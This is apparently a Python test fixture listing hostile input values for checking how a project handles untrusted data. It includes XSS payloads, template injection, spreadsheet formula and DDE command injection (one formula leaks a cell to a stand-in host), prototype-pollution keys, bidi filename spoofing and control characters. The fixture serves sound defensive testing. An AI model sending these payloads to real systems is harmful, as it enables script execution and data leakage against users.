"""Values that anyone with the public key of a project can send, and the attacks in them."""

DEPTH = 60
MARKUP = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>'

HOSTILE: dict[str, object] = {
    "markup": MARKUP,
    "link": "javascript:document.title='owned'",
    "data_link": "data:text/html,<script>document.title='owned'</script>",
    "entity": "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#x202e;",
    "template": "{{constructor.constructor('document.title=1')()}} ${7*7} %s %d",
    "formula": '=HYPERLINK("http://fanion.invalid/"&A1,"Click")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "user\u202egnp.exe\u202c \u2066hidden\u2069",
    "accents": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319" * 20,
    "wide": "\u00a0\u2003\u3000\u200b\ufeff",
    "long": "long-" * 4_000,
    "unbroken": "x" * 5_000,
    "lines": "first\nsecond\r\nthird\tfourth",
    "null_byte": "before\u0000after",
    "controls": "\u0001\u0007\u001b[31mred\u001b[0m\u007f",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f4\u200d\u2620\ufe0f",
    "large": 10**300,
    "negative": -0.1,
    "yes": True,
    "nothing": None,
    "empty": "",
    "list": [MARKUP, None, [1, [2, [3]]]],
    "__proto__": {"polluted": "yes"},
    "constructor": {"prototype": {"polluted": "yes"}},
    "toString": "no function",
    MARKUP: "a name as hostile as a value",
    "a name " * 30: "a long name",
}


def deep(levels: int = DEPTH) -> object:
    value: object = MARKUP
    for _ in range(levels):
        value = {"in": [value]}
    return value
